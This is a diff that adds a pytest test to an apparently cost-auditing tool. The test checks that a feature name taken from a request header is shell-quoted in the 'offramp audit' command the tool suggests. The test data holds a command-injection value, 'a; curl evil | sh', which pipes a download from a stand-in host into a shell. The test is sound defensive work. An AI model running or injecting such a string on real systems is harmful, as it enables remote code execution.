@@ -35,6 +35,13 @@ def test_traffic_without_trouble_gets_no_advice() -> None:
     assert texts(QUIET) == ["100 % of the requests cannot be traced to one call site"]
 
 
+def test_a_name_from_a_header_is_quoted_in_the_command_that_is_proposed() -> None:
+    """Whoever may send a request chooses its feature, and somebody else pastes this line into a shell."""
+    hostile = [*QUIET, row(90, feature="a; curl evil | sh", cost_nano=10**9)]
+
+    assert "`offramp audit --feature 'a; curl evil | sh'`" in all_of(advise(audited(*hostile)))
+
+
 @pytest.mark.parametrize(
     ("rows", "expected"),
     [
